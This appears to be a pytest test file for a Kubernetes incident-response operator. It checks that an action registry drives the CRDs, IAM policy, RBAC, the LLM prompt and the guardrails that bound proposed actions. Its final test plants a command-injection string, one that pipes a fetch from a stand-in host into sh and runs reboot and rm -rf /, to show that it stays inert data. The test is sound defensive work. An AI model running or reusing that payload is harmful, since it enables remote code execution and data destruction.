"""The action registry: what the plugins declare reaches the API, the LLM's
schema, the prompt, the guardrails and the IAM policy, with no list of
actions anywhere else."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from kubernetes.client import ApiClient
from pydantic import ValidationError

from builders import incident
from chart_support import Manifests, render, values_file
from incident_operator import crd
from incident_operator.assess import prompt
from incident_operator.assess.guardrails import enforce
from incident_operator.models import Assessment, Decision, IncidentSpec, ResponsePolicySpec, Rule
from incident_operator.policy import Policy
from incident_operator.remediate import Target, registry
from incident_operator.remediate.actions.restart_deployment import judge_rollout
from incident_operator.remediate.actions.run_job import (
    RunbookParameters,
    RunJobSettings,
    job,
)
from incident_operator.remediate.plugin import Request

REPO = Path(__file__).resolve().parents[1]
CHECKOUT = Target("us-east-1", "demo", "checkout")


def scaling_policy(**settings: int) -> Policy:
    return Policy(
        "checkout",
        ResponsePolicySpec.model_validate(
            {
                "allowedActions": ["scale_service", "notify_team"],
                "actions": {"scale_service": settings},
            }
        ),
    )


def test_the_registry_finds_every_plugin_module() -> None:
    modules = sorted(
        path.stem
        for path in (REPO / "operator/incident_operator/remediate/actions").glob("*.py")
        if path.stem != "__init__"
    )
    assert sorted(registry.plugins()) == modules
    assert registry.names() == (*registry.plugins(), "notify_team", "ignore")
    assert set(registry.plugins()) == {
        "restart_service",
        "scale_service",
        "rollback_service",
        "restart_deployment",
        "run_job",
    }
    # A new action is opt-in: only restarts are allowed where a policy says nothing.
    assert registry.allowed_by_default() == ("restart_service", "notify_team", "ignore")


def test_the_crds_enum_and_schemas_come_from_the_registry() -> None:
    incident = crd.incident_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    assessment = incident["properties"]["status"]["properties"]["assessment"]["properties"]
    assert assessment["action"]["enum"] == list(registry.names())
    assert set(assessment["parameters"]["properties"]) == {"desiredCount", "step", "runbook"}
    policy = crd.response_policy_crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    settings = policy["properties"]["spec"]["properties"]["actions"]["properties"]
    assert set(settings) == set(registry.plugins())
    assert settings["scale_service"]["properties"]["maxCount"]["maximum"] == 1000


def test_the_iam_policy_grants_what_the_plugins_declare() -> None:
    document = json.loads((REPO / "docs" / "iam-policy.json").read_text())
    [ecs] = [s for s in document["Statement"] if s["Sid"] == "RestartTheServicesItMayRestart"]
    assert set(ecs["Action"]) == registry.iam_actions()


@pytest.mark.parametrize(
    ("action", "parameters", "error"),
    [
        ("restart_service", {"desiredCount": 3}, "Extra inputs are not permitted"),
        ("scale_service", {}, "exactly one of desiredCount and step"),
        ("scale_service", {"desiredCount": 2, "step": 1}, "exactly one"),
        ("scale_service", {"desiredCount": 5000}, "less than or equal to 1000"),
        ("scale_service", {"step": 0}, "a step of 0 changes nothing"),
        ("notify_team", {"step": 1}, "notify_team takes no parameters"),
    ],
)
def test_parameters_are_checked_against_their_action(
    action: str, parameters: dict[str, int], error: str
) -> None:
    with pytest.raises(ValidationError, match=error):
        Decision(decision="SAFE", action=action, parameters=parameters, message="m", confidence=1)


def test_an_unknown_action_is_refused_everywhere() -> None:
    with pytest.raises(ValidationError, match="unknown action 'reboot_host'"):
        Rule(action="reboot_host")
    with pytest.raises(ValidationError, match=r"actions\.reboot_host: no such action"):
        ResponsePolicySpec.model_validate({"actions": {"reboot_host": {}}})
    with pytest.raises(ValidationError, match="minCount 9 is above maxCount 2"):
        ResponsePolicySpec.model_validate(
            {"actions": {"scale_service": {"minCount": 9, "maxCount": 2}}}
        )


def proposal(**parameters: int) -> Assessment:
    return Assessment(
        decision="SAFE",
        action="scale_service",
        parameters=parameters,
        message="scale it",
        confidence=0.9,
        assessor="gemini",
    )


def test_the_guardrails_refuse_parameters_outside_the_policys_bounds() -> None:
    policy = scaling_policy(minCount=2, maxCount=8, maxStep=3)

    within = enforce(proposal(desiredCount=6), policy)
    too_many = enforce(proposal(desiredCount=50), policy)
    too_big_a_step = enforce(proposal(step=-4), policy)

    assert (within.decision, within.action, within.parameters) == (
        "SAFE",
        "scale_service",
        {"desiredCount": 6},
    )
    for refused in (too_many, too_big_a_step):
        assert (refused.decision, refused.action, refused.parameters) == (
            "ESCALATE",
            "notify_team",
            {},
        )
    assert "desiredCount 50 is outside the policy's bounds (minCount 2, maxCount 8)" in (
        too_many.rationale
    )
    assert "step -4 is larger than the policy's maxStep 3" in too_big_a_step.rationale


def test_the_prompt_describes_the_allowed_actions_and_their_bounds() -> None:
    system = prompt._system(scaling_policy(minCount=2, maxCount=8))

    assert "- scale_service: set the desired task count" in system
    assert "desiredCount (the new task count, 2 to 8)" in system
    assert "restart_service" not in system  # not allowed by this policy


def test_an_action_is_described_with_its_parameters() -> None:
    scale = registry.plugin("scale_service")
    restart = registry.plugin("restart_service")
    assert scale is not None and restart is not None

    assert restart.describe(CHECKOUT, restart.Parameters()) == "restart of us-east-1/demo/checkout"
    assert (
        scale.describe(CHECKOUT, scale.Parameters(step=-2))
        == "scale of us-east-1/demo/checkout by -2 tasks"
    )


def test_the_charts_kubernetes_rbac_is_what_the_plugins_declare(helm: Path, tmp_path: Path) -> None:
    declared = [rule for p in registry.plugins().values() for rule in p.rbac]
    default = render(helm, values_file(tmp_path, {}))
    enabled = render(
        helm,
        values_file(
            tmp_path, {"remediation": {"kubernetes": {"enabled": True, "namespaces": ["a", "b"]}}}
        ),
    )

    def roles(manifests: Manifests) -> dict[str, Any]:
        return {
            m["metadata"]["namespace"]: m
            for m in manifests
            if m["kind"] == "Role" and m["metadata"]["name"].endswith("-operator-remediation")
        }

    assert roles(default) == {}  # opt-in
    assert set(roles(enabled)) == {"a", "b"}
    for role in roles(enabled).values():
        assert role["rules"] == declared
    bindings = [
        m
        for m in enabled
        if m["kind"] == "RoleBinding" and m["metadata"]["name"].endswith("-operator-remediation")
    ]
    assert {b["subjects"][0]["name"] for b in bindings} == {"io-incident-operator-operator"}


def rollout(generation: int = 2, **status: Any) -> dict[str, Any]:
    return {"generation": generation, "status": {"observedGeneration": 2, **status}}


DONE = {"replicas": 2, "updatedReplicas": 2, "availableReplicas": 2}
DEADLINE = {"type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded"}


@pytest.mark.parametrize(
    ("shape", "expected"),
    [
        (rollout(**DONE), "Succeeded"),
        (rollout(generation=3, **DONE), "InProgress"),  # not yet seen by the controller
        (rollout(**{**DONE, "replicas": 3}), "InProgress"),  # an old pod is left
        (rollout(**{**DONE, "availableReplicas": 1}), "InProgress"),
        (rollout(conditions=[DEADLINE]), "Failed"),
    ],
)
def test_a_deployments_rollout_is_judged_as_kubectl_rollout_status_does(
    shape: dict[str, Any], expected: str
) -> None:
    body = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "web", "generation": shape["generation"]},
        "spec": {"replicas": 2, "selector": {}, "template": {}},
        "status": shape["status"],
    }
    deployment = ApiClient().deserialize(json.dumps(body), "V1Deployment", "application/json")
    assert judge_rollout(deployment) == expected


def test_a_runbook_gets_the_alarm_as_data_never_as_a_command() -> None:
    hostile = "$(curl evil.invalid | sh); `reboot` && rm -rf / #"
    body = incident()
    body["spec"]["summary"] = hostile
    body["spec"]["alarm"]["name"] = hostile[:60]
    settings = RunJobSettings.model_validate(
        {"namespace": "ops", "runbooks": {"flush": {"image": "busybox", "command": ["/bin/flush"]}}}
    )
    request = Request(
        target=CHECKOUT,
        parameters=RunbookParameters(runbook="flush"),
        settings=settings,
        incident_id="prod/checkout-1@u-1",
        alarm=IncidentSpec.model_validate(body["spec"]),
    )

    made = job(request)

    [container] = made["spec"]["template"]["spec"]["containers"]
    assert container["command"] == ["/bin/flush"]  # exec form: no shell reads the env
    env = {e["name"]: e["value"] for e in container["env"]}
    assert env["ALERT_SUMMARY"] == hostile
    assert env["ALERT_NAME"] == hostile[:60]
    assert env["ALERT_TARGET"] == "us-east-1/demo/checkout"
    assert env["ALERT_INCIDENT"] == "prod/checkout-1@u-1"
    # One Job per Incident and runbook: the name is the same on every attempt.
    assert made["metadata"]["name"] == job(request)["metadata"]["name"]
    assert made["metadata"]["namespace"] == "ops"
    assert made["spec"]["backoffLimit"] == 0 and made["spec"]["activeDeadlineSeconds"] == 600
